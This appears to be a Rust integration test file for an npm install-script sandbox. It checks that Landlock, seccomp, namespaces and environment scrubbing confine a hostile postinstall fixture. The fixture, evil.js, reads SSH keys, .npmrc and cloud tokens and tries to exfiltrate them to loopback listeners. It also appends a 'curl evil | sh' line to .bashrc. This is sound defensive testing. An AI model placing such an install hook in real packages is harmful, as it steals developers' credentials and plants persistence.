//! The sandbox for install-time code, end to end: the real npm behind the
//! shim installs approved fixture packages from the loopback registry.
//! One postinstall is hostile: it reads a fake `~/.ssh/id_rsa` and
//! `~/.npmrc`, reads registry and cloud tokens from its environment, sends
//! what it got to a loopback TCP listener directly (ignoring the proxy
//! variables), through the proxy with curl, and by UDP; writes
//! `$HOME/outside-marker` and appends to `~/.bashrc`; and writes inside the
//! project. Another downloads from the registry through the proxy, as a
//! legitimate install script does. Confined: nothing leaves, nothing outside
//! the project is written, the project is, the download works, and the
//! `script` record names the layers in force. Under a seccomp filter that
//! refuses namespaces as Docker's default profile does, the same code is
//! still traced and confined (Landlock) and the record says there was no
//! network namespace; with `[sandbox] require = true` it does not run.

#![cfg(target_os = "linux")]

mod support;

use std::net::UdpSocket;
use std::os::unix::process::CommandExt;
use std::sync::OnceLock;

use serde_json::Value;
use support::guard::{text, Guarded};
use support::registry::Listener;
use support::{shared, NpmPackage};

const KEY: &str = "-----BEGIN FAKE KEY----- sandbox-test-private-key";
const NPMRC_TOKEN: &str = "npmrc-s3cret-token";
const ENV_SECRETS: [(&str, &str); 3] = [
    ("NPM_TOKEN", "env-npm-s3cret"),
    ("AWS_SECRET_ACCESS_KEY", "env-aws-s3cret"),
    ("FIXTURE_EXTRA", "env-extra-s3cret"),
];

fn evil_js() -> String {
    r#"const fs = require('fs'), path = require('path'), net = require('net');
const dgram = require('dgram'), os = require('os'), cp = require('child_process');
const home = os.homedir(), r = {};
const t = JSON.parse(fs.readFileSync(path.join(home, '.exfil.json'), 'utf8'));
let loot = '';
const attempt = (name, f) => { try { const v = f(); r[name] = 'ok'; return v; } catch (e) { r[name] = e.code || String(e); return ''; } };
loot += attempt('ssh', () => fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8'));
attempt('ssh_dir', () => fs.readdirSync(path.join(home, '.ssh')));
loot += attempt('npmrc', () => fs.readFileSync(path.join(home, '.npmrc'), 'utf8'));
const uc = process.env.npm_config_userconfig || '';
r.userconfig_has_token = attempt('userconfig', () => fs.readFileSync(uc, 'utf8')).includes('_authToken');
r.env = {};
for (const k of ['NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'FIXTURE_EXTRA']) { r.env[k] = process.env[k] || null; loot += process.env[k] || ''; }
attempt('outside', () => fs.writeFileSync(path.join(home, 'outside-marker'), 'x'));
attempt('bashrc', () => fs.appendFileSync(path.join(home, '.bashrc'), 'curl evil | sh\n'));
attempt('inside', () => fs.writeFileSync(path.join(process.env.INIT_CWD, 'inside-marker'), 'x'));
attempt('tmp', () => fs.writeFileSync(path.join(os.tmpdir(), 'tmp-marker'), 'x'));
r.tmpdir = os.tmpdir();
r.curl = attempt('curl_run', () => cp.execSync(
  "curl -s -m 10 -o /dev/null -w '%{http_code}' --data-binary @- http://127.0.0.1:" + t.tcp + "/curl",
  { input: loot }).toString());
r.curl_direct = attempt('curl_direct_run', () => cp.execSync(
  "curl -s -m 10 --noproxy '*' -o /dev/null -w '%{http_code}' --data-binary @- http://127.0.0.1:" + t.tcp + "/direct || true",
  { input: loot }).toString());
const done = () => { fs.writeFileSync(path.join(__dirname, 'report.json'), JSON.stringify(r)); };
const tcp = () => {
  const s = net.connect({ host: '127.0.0.1', port: t.tcp });
  s.on('connect', () => { r.direct = 'connected'; s.end('direct ' + loot, done); });
  s.on('error', e => { r.direct = e.code; done(); });
};
let udpDone = false;
const afterUdp = e => {
  if (udpDone) return;
  udpDone = true;
  r.udp = e ? (e.code || String(e)) : 'sent';
  try { u.close(); } catch (e) {}
  tcp();
};
const u = dgram.createSocket('udp4');
u.on('error', afterUdp);
try { u.send(Buffer.from('udp ' + loot), t.udp, '127.0.0.1', afterUdp); } catch (e) { afterUdp(e); }
"#
    .to_string()
}

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        r.publish_npm(
            &NpmPackage::new("pw-sb-evil", "1.0.0")
                .script("postinstall", "node evil.js")
                .file("evil.js", evil_js()),
        );
        // A legitimate download through the proxy (curl follows HTTP_PROXY).
        r.publish_npm(&NpmPackage::new("pw-sb-native", "1.0.0").script(
            "postinstall",
            &format!(
                "curl -s -f -m 30 -o fetched.json {}pw-sb-native",
                r.npm_url()
            ),
        ));
    });
}

struct T {
    g: Guarded,
    tcp: Listener,
    udp: UdpSocket,
}

fn setup(sandbox: &str, packages: &[&str]) -> T {
    fixtures();
    let tcp = Listener::start();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let allow: Vec<String> = packages.iter().map(|p| format!("\"npm:{p}\"")).collect();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\n[scripts]\nallow = [{}]\n[sandbox]\nscrub_env = [\"FIXTURE_EXTRA\"]\n{sandbox}",
        shared().npm_url(),
        allow.join(", ")
    );
    let g = Guarded::new(&policy);
    let home = &g.sb.home;
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), KEY).unwrap();
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    let reg = shared().npm_url();
    let host = reg.trim_start_matches("http://");
    g.sb.write_npmrc(&format!("//{host}:_authToken={NPMRC_TOKEN}\n"));
    std::fs::write(
        home.join(".exfil.json"),
        format!(
            "{{\"tcp\": {}, \"udp\": {}}}",
            tcp.port(),
            udp.local_addr().unwrap().port()
        ),
    )
    .unwrap();
    g.sb.write("package.json", r#"{"name":"sb-app","version":"1.0.0"}"#);
    T { g, tcp, udp }
}

/// npm through the shim, with secrets in its environment; `docker_like`:
/// under a seccomp filter refusing namespaces (EPERM) and clone3 (ENOSYS).
fn npm_install(t: &T, packages: &[&str], docker_like: bool) -> std::process::Output {
    let reg = shared().npm_url();
    let secrets: Vec<(String, std::ffi::OsString)> = ENV_SECRETS
        .iter()
        .map(|(k, v)| ((*k).into(), (*v).into()))
        .collect();
    let mut c =
        t.g.sb
            .command("npm", &[t.g.sb.npm_env(&reg), t.g.pkgward_env(), secrets]);
    c.arg("install").args(packages);
    if docker_like {
        let prog = docker_like_filter();
        // SAFETY: prctl and seccomp on a program built before fork.
        unsafe {
            c.pre_exec(move || {
                if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                let f = libc::sock_fprog {
                    len: prog.len() as u16,
                    filter: prog.as_ptr() as *mut libc::sock_filter,
                };
                if libc::syscall(libc::SYS_seccomp, libc::SECCOMP_SET_MODE_FILTER, 0, &f) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
    c.output().unwrap()
}

/// Like Docker's default seccomp profile: `unshare` and `clone` with any
/// namespace flag fail with EPERM, `clone3` with ENOSYS (so libc falls
/// back to `clone`, whose flags the filter can see).
fn docker_like_filter() -> Vec<libc::sock_filter> {
    let ld = (libc::BPF_LD | libc::BPF_W | libc::BPF_ABS) as u16;
    let ret = (libc::BPF_RET | libc::BPF_K) as u16;
    let jump = |op: u32, k: u32, jt: u8, jf: u8| libc::sock_filter {
        code: (libc::BPF_JMP | op | libc::BPF_K) as u16,
        jt,
        jf,
        k,
    };
    let st = |code: u16, k: u32| libc::sock_filter {
        code,
        jt: 0,
        jf: 0,
        k,
    };
    let ns = (libc::CLONE_NEWUSER
        | libc::CLONE_NEWNET
        | libc::CLONE_NEWNS
        | libc::CLONE_NEWPID
        | libc::CLONE_NEWUTS
        | libc::CLONE_NEWIPC
        | libc::CLONE_NEWCGROUP) as u32;
    vec![
        st(ld, 4),
        jump(libc::BPF_JEQ, 0xC000_003E, 1, 0),
        st(ret, 0x7fff_0000),
        st(ld, 0),
        jump(libc::BPF_JEQ, libc::SYS_clone3 as u32, 0, 1),
        st(ret, 0x0005_0000 | libc::ENOSYS as u32),
        jump(libc::BPF_JEQ, libc::SYS_unshare as u32, 1, 0),
        jump(libc::BPF_JEQ, libc::SYS_clone as u32, 0, 3),
        st(ld, 16),
        jump(libc::BPF_JSET, ns, 0, 1),
        st(ret, 0x0005_0000 | libc::EPERM as u32),
        st(ret, 0x7fff_0000),
    ]
}

/// The kernel's Landlock ABI (0: none). The sandbox's file and TCP rules
/// need 4; the machines this project runs on have 7.
fn landlock_abi() -> i64 {
    // SAFETY: landlock_create_ruleset(NULL, 0, VERSION) returns a number.
    unsafe {
        libc::syscall(
            libc::SYS_landlock_create_ruleset,
            std::ptr::null::<libc::c_void>(),
            0usize,
            1u32,
        )
    }
}

fn netns_works_here() -> bool {
    std::process::Command::new("unshare")
        .args(["-Urn", "true"])
        .status()
        .is_ok_and(|s| s.success())
}

fn report(t: &T, pkg: &str) -> Value {
    let p =
        t.g.sb
            .work
            .join("node_modules")
            .join(pkg)
            .join("report.json");
    let s = std::fs::read_to_string(&p)
        .unwrap_or_else(|e| panic!("{}: {e} (the postinstall did not finish)", p.display()));
    serde_json::from_str(&s).unwrap()
}

fn script_record(t: &T, pkg: &str) -> Value {
    let inv = t.g.last_invocation()["invocation_id"].clone();
    t.g.audit()
        .into_iter()
        .find(|r| r["kind"] == "script" && r["package"] == pkg && r["invocation_id"] == inv)
        .unwrap_or_else(|| panic!("no script record for {pkg}"))
}

fn layers(rec: &Value) -> Vec<String> {
    rec["sandbox"]["layers"]
        .as_array()
        .unwrap_or_else(|| panic!("no sandbox layers in {rec:#}"))
        .iter()
        .map(|l| l.as_str().unwrap().to_string())
        .collect()
}

/// What the hostile script could not do, whichever layers were in force.
fn confined(t: &T, r: &Value) {
    // No credential read: the file, its directory, the npmrc.
    assert_eq!(r["ssh"], "EACCES", "{r:#}");
    assert_eq!(r["ssh_dir"], "EACCES", "{r:#}");
    assert_eq!(r["npmrc"], "EACCES", "{r:#}");
    // npm's own config is a copy without the token.
    assert_eq!(r["userconfig"], "ok", "{r:#}");
    assert_eq!(r["userconfig_has_token"], false, "{r:#}");
    // No secrets in the environment.
    for (k, _) in ENV_SECRETS {
        assert_eq!(r["env"][k], Value::Null, "{k}: {r:#}");
    }
    // No writes outside the project; writes inside and to its temp dir work.
    assert_eq!(r["outside"], "EACCES", "{r:#}");
    assert_eq!(r["bashrc"], "EACCES", "{r:#}");
    assert!(!t.g.sb.home.join("outside-marker").exists());
    assert_eq!(
        std::fs::read_to_string(t.g.sb.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    assert_eq!(r["inside"], "ok", "{r:#}");
    assert!(t.g.sb.work.join("inside-marker").exists());
    assert_eq!(r["tmp"], "ok", "{r:#}");
    assert!(
        r["tmpdir"].as_str().unwrap().contains("pkgward-sandbox-"),
        "{r:#}"
    );
    // The direct connection is refused; through the proxy the listener is
    // not an approved destination (403).
    assert_ne!(r["direct"], "connected", "{r:#}");
    assert_eq!(r["curl"], "403", "{r:#}");
    // No UDP socket at all (DNS to a loopback resolver would be a way out).
    assert_eq!(r["udp"], "EACCES", "{r:#}");
    assert_eq!(t.tcp.connections().len(), 0, "the listener was reached");
    // Nothing secret anywhere in the audit log either.
    let log = std::fs::read_to_string(t.g.state.join("audit.jsonl")).unwrap();
    for s in [KEY, NPMRC_TOKEN]
        .into_iter()
        .chain(ENV_SECRETS.iter().map(|(_, v)| *v))
    {
        assert!(!log.contains(s), "{s} is in the audit log");
    }
}

#[test]
fn approved_install_code_runs_confined_and_the_record_says_how() {
    if landlock_abi() < 4 {
        eprintln!("skipped: no Landlock ABI 4 on this kernel");
        return;
    }
    let pkgs = ["pw-sb-evil", "pw-sb-native"];
    let t = setup("", &pkgs);
    let o = npm_install(&t, &pkgs, false);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let r = report(&t, "pw-sb-evil");
    confined(&t, &r);
    // The legitimate download through the proxy worked.
    let fetched =
        std::fs::read_to_string(t.g.sb.work.join("node_modules/pw-sb-native/fetched.json"))
            .expect("the download through the proxy");
    assert!(fetched.contains("pw-sb-native"), "{fetched}");

    let rec = script_record(&t, "pw-sb-evil");
    assert_eq!(rec["decision"], "approved");
    assert_eq!(rec["exit_code"], 0);
    let l = layers(&rec);
    for want in [
        "env-scrub",
        "private-tmp",
        "landlock-fs",
        "landlock-net",
        "seccomp",
    ] {
        assert!(l.iter().any(|x| x == want), "{want} not in {l:?}");
    }
    let scrubbed: Vec<&str> = rec["sandbox"]["scrubbed_env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    for (k, _) in ENV_SECRETS {
        assert!(scrubbed.contains(&k), "{k} not in {scrubbed:?}");
    }
    let mut buf = [0u8; 2048];
    if netns_works_here() {
        assert!(l.iter().any(|x| x == "netns"), "{l:?}");
        // No route out of the namespace: no direct curl, no datagram.
        assert_eq!(r["curl_direct"], "000", "{r:#}");
        assert!(t.udp.recv_from(&mut buf).is_err(), "a datagram got out");
        assert!(layers(&script_record(&t, "pw-sb-native"))
            .iter()
            .any(|x| x == "netns"));
    } else {
        while let Ok((n, _)) = t.udp.recv_from(&mut buf) {
            let got = String::from_utf8_lossy(&buf[..n]);
            assert!(
                !got.contains("s3cret") && !got.contains("FAKE KEY"),
                "{got}"
            );
        }
    }
}

#[test]
fn where_namespaces_are_refused_the_code_is_still_traced_and_confined() {
    if landlock_abi() < 4 {
        eprintln!("skipped: no Landlock ABI 4 on this kernel");
        return;
    }
    let t = setup("", &["pw-sb-evil"]);
    let o = npm_install(&t, &["pw-sb-evil"], true);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let r = report(&t, "pw-sb-evil");
    confined(&t, &r);
    // Landlock's TCP rule refuses anything but the proxy's port.
    assert_eq!(r["direct"], "EACCES", "{r:#}");
    let mut buf = [0u8; 2048];
    while let Ok((n, _)) = t.udp.recv_from(&mut buf) {
        let got = String::from_utf8_lossy(&buf[..n]);
        assert!(
            !got.contains("s3cret") && !got.contains("FAKE KEY"),
            "{got}"
        );
    }
    let rec = script_record(&t, "pw-sb-evil");
    let l = layers(&rec);
    assert!(!l.iter().any(|x| x == "netns"), "{l:?}");
    for want in [
        "landlock-fs",
        "landlock-net",
        "seccomp",
        "env-scrub",
        "no-capabilities",
    ] {
        assert!(l.iter().any(|x| x == want), "{want} not in {l:?}");
    }
    let missing = rec["sandbox"]["missing"].to_string();
    assert!(
        missing.contains("netns") && missing.contains("EPERM"),
        "{missing}"
    );
    // Still traced: the script's processes are recorded with the invocation.
    let inv = t.g.last_invocation()["invocation_id"].clone();
    let traced: Vec<Value> =
        t.g.audit()
            .into_iter()
            .filter(|r| r["kind"] == "process" && r["invocation_id"] == inv)
            .collect();
    assert!(
        traced.iter().any(|p| p.to_string().contains("evil.js")),
        "{traced:#?}"
    );
}

#[test]
fn require_refuses_to_run_where_a_layer_is_missing() {
    let t = setup("require = true\n", &["pw-sb-evil"]);
    let o = npm_install(&t, &["pw-sb-evil"], true);
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(78), "{err}");
    assert!(err.contains("require = true"), "{err}");
    assert!(err.contains("netns"), "{err}");
    assert!(!t
        .g
        .sb
        .work
        .join("node_modules/pw-sb-evil/report.json")
        .exists());
    let rec = script_record(&t, "pw-sb-evil");
    assert_eq!(rec["ran"], false);
    assert!(rec["error"]
        .as_str()
        .unwrap()
        .contains("requires the sandbox"));
}
